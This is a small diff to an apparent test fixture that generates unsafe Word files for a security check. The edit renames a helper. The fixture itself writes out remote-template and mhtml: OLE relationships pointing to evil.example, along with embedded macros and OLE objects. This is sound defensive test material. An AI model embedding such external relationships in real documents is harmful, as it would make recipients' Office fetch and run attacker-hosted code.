@@ -218,7 +218,7 @@ export async function unsafeOfficeFiles(): Promise<
   }[]
 > {
   const oleObject = (content: Uint8Array) => docxFile([{ name: 'word/embeddings/oleObject1.bin', content }]);
-  const settingsThatLoad = (type: string, target: string) =>
+  const wordDocumentThatLoads = (type: string, target: string) =>
     docxFile([relationships('word/_rels/settings.xml.rels', [{ type, target, isExternal: true }])]);
   const macros = { name: 'word/vbaProject.bin', content: compoundFile(['VBA', '_VBA_PROJECT']) };
   const zeros = new Uint8Array(4 * 1024 * 1024);
@@ -287,13 +287,13 @@ export async function unsafeOfficeFiles(): Promise<
     {
       what: 'an external template',
       name: 'letter.docx',
-      content: await settingsThatLoad('attachedTemplate', 'https://evil.example/t.dotm'),
+      content: await wordDocumentThatLoads('attachedTemplate', 'https://evil.example/t.dotm'),
       why: 'another location',
     },
     {
       what: 'a remote object',
       name: 'letter.docx',
-      content: await settingsThatLoad('oleObject', 'mhtml:https://evil.example/x.html!x-usc:1'),
+      content: await wordDocumentThatLoads('oleObject', 'mhtml:https://evil.example/x.html!x-usc:1'),
       why: 'another location',
     },
     {
